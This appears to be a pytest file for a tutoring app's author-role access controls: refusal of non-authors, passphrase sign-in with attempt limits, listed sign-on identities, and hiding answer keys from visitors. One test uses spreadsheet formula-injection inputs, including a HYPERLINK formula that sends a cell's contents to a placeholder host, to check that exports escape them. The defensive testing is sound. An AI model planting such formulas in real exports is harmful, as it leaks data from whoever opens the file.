"""Roles (issue 14): authoring is for authors only, checked in the functions the Author page
calls; a visitor without the role sees no answer key and no learner's words anywhere."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from tests.app_support import create_profile, install_sample, new_app, prepared_sample
from tutor import author_desk as desk
from tutor.cli.main import main
from tutor.context import TutorContext
from tutor.course import Course
from tutor.errors import AccessError, LearnerError
from tutor.learner.model import Attempt
from tutor.roles import (
    AuthorGrant,
    add_author,
    author_names,
    grant_for_identity,
    shell_grant,
    sign_in_author,
)
from tutor.safety.passphrases import FREE_ATTEMPTS

PAGES = ("webapp/learn.py", "webapp/course_map.py", "webapp/progress.py", "webapp/author.py")


@pytest.fixture(scope="session")
def sample_copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return prepared_sample(tmp_path_factory.mktemp("sample"))


@pytest.fixture
def sample(sample_copy: Path, tutor_home: Path) -> Path:
    return install_sample(sample_copy, tutor_home)


NOT_AUTHORS = [None, "ada", {"name": "ada", "via": "account"}, object()]


@pytest.mark.parametrize("who", NOT_AUTHORS)
def test_every_authoring_action_refuses_a_non_author(sample: Path, who: object):
    context = TutorContext.from_env(engine="offline")
    before = (sample / "course.json").read_bytes()
    course = Course.load(sample / "course.json")
    concept, exercise = course.concepts[0].id, course.exercises[0].id
    actions = [
        lambda: desk.save_upload(who, context, sample.name, "x.md", b"# x\n\ntext\n"),
        lambda: desk.start_build(who, context, sample.name),
        lambda: desk.build_status(who, context, sample.name),
        lambda: desk.course_names(who, context),
        lambda: desk.course_with_answers(who, context, sample.name),
        lambda: desk.edit_concept(who, sample, concept, name="Renamed"),
        lambda: desk.delete_concept(who, sample, concept),
        lambda: desk.delete_exercise(who, sample, exercise),
        lambda: desk.mark_reviewed(who, sample, [exercise]),
        lambda: desk.analytics_tables(who, course, []),
        lambda: desk.export(who, course, "gift", sample.parent / "out.gift"),
    ]
    for action in actions:
        with pytest.raises(AccessError, match="only an author may"):
            action()
    assert (sample / "course.json").read_bytes() == before
    assert not (sample / "x.md").exists() and not (sample.parent / "out.gift").exists()


def test_an_author_grant_allows_the_actions(sample: Path):
    grant = shell_grant()
    course = desk.mark_reviewed(grant, sample, [Course.load(sample / "course.json")
                                                .exercises[0].id])
    assert course.exercises[0].reviewed


def test_author_accounts_sign_in_and_limit_attempts(tmp_path: Path):
    data = tmp_path / "data"
    with pytest.raises(LearnerError, match="at least 8"):
        add_author(data, "Grace", "short")
    add_author(data, "Grace", "compilers are fun")
    assert author_names(data) == ["Grace"]
    assert json.loads((data / "authors.json").read_text())["grace"]["passphrase"].startswith(
        "scrypt$")
    assert sign_in_author(data, "grace", "compilers are fun") == AuthorGrant("Grace", "account")
    with pytest.raises(AccessError, match="unknown author or wrong passphrase"):
        sign_in_author(data, "Nobody", "compilers are fun")
    for _ in range(FREE_ATTEMPTS):
        with pytest.raises(AccessError):
            sign_in_author(data, "Grace", "wrong guess!")
    with pytest.raises(LearnerError, match="too many wrong passphrases"):
        sign_in_author(data, "Grace", "compilers are fun")


def test_single_sign_on_identities_are_authors_only_when_listed():
    listed = ["grace@example.org", " Ada@Example.org "]
    assert grant_for_identity("ada@example.org", listed) == AuthorGrant(
        "ada@example.org", "sign-on")
    assert grant_for_identity("eve@example.org", listed) is None
    assert grant_for_identity(None, listed) is None


def test_cli_adds_an_author_with_a_passphrase_from_stdin(tutor_home: Path,
                                                         monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("sys.stdin", io.StringIO("a long passphrase\n"))
    assert main(["author", "add", "Иван", "--passphrase-stdin"]) == 0
    assert author_names(tutor_home / ".tutor") == ["Иван"]
    monkeypatch.setattr("sys.stdin", io.StringIO("short\n"))
    assert main(["author", "add", "Bob", "--passphrase-stdin"]) == 2


def test_analytics_cells_cannot_run_as_spreadsheet_formulas(sample: Path):
    course = Course.load(sample / "course.json")
    exercise = next(e for e in course.exercises if not e.choices)
    attempts = [
        Attempt(id=f"a{i}", learner_id="eve", course=course.slug or "", answer=answer,
                concept_id=exercise.concept_id, exercise_id=exercise.id, correct=False,
                score=0.0, at=datetime.now(UTC))
        for i, answer in enumerate(['=HYPERLINK("http://x.example/?"&A1)', "+1", "-2", "@SUM"])
    ]
    _, _, _, wrong = desk.analytics_tables(shell_grant(), course, attempts)
    cells = [row["answer"] for row in wrong]
    assert len(cells) == 4 and all(cell.startswith("'") for cell in cells), cells


def _all_text(at: AppTest) -> str:
    parts: list[str] = []
    for kind in ("markdown", "caption", "subheader", "title", "success", "error", "warning",
                 "info", "text", "code"):
        parts += [str(el.value) for el in getattr(at, kind)]
    parts += [str(o) for radio in at.radio for o in radio.options]
    parts += [df.value.to_csv() for df in at.dataframe]
    parts += [str(box.options) for box in at.selectbox]
    return "\n".join(parts)


def test_a_visitor_sees_no_answer_key_and_no_authoring(sample: Path):
    """Outside the lesson (which asks one exercise at a time), no page shows an exercise, its
    answer mark or an answer line to a learner who is not an author."""
    course = Course.load(sample / "course.json")
    prompts = {e.prompt[:50] for e in course.exercises}
    at = create_profile(new_app(), "Ada")
    seen: list[str] = []
    for page in PAGES[1:]:
        at.switch_page(page).run()
        assert not at.exception, (page, at.exception)
        seen.append(_all_text(at))
        if page.endswith("course_map.py"):
            for concept in course.teaching_order():
                at.selectbox(key="map_concept").set_value(concept).run()
                seen.append(_all_text(at))
    text = "\n".join(seen)
    assert [p for p in prompts if p in text] == []
    assert "Answer:" not in text and "✅" not in text
    assert "The Author page is for course authors" in text  # its sign-in form instead
    assert not at.dataframe and not at.get("download_button") and not at.file_uploader
